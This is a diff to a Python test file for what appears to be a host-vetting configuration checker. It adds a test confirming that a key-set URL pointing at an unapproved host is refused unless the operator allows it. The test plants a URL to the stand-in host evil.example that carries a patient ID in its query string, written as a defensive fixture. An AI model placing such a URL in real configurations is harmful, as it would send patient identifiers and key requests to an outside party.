@@ -79,6 +79,16 @@ def test_no_other_host_gets_a_credential_by_the_file_s_word_alone(tmp_path, host
     assert all(f": {key}: " in line for line in said.splitlines())
 
 
+def test_a_key_set_elsewhere_is_asked_for_by_the_operator_s_word_alone(tmp_path):
+    path = written(tmp_path)
+    keys = "  key_set_url: https://evil.example/keys?patient=${GOLIVE_PATIENT_ID}\n"
+    path.write_text(path.read_text().replace("  credential:\n", f"{keys}  credential:\n"))
+    said = refused(path, GOLIVE_PATIENT_ID="12700100")
+    assert "evil.example is not a host of Oracle's, and would be asked for the keys." in said
+    assert "12700100" not in said
+    assert passes(path, GOLIVE_PATIENT_ID="12700100", GOLIVE_ALLOWED_HOSTS="evil.example")
+
+
 def test_one_line_of_the_operator_s_lets_a_company_s_gateway_pass(tmp_path):
     gateway = written(tmp_path, api="https://gateway.example.org:8443/{tenant}/message")
     (line,) = re.findall(r"`golive hosts add (\S+)`", refused(gateway))
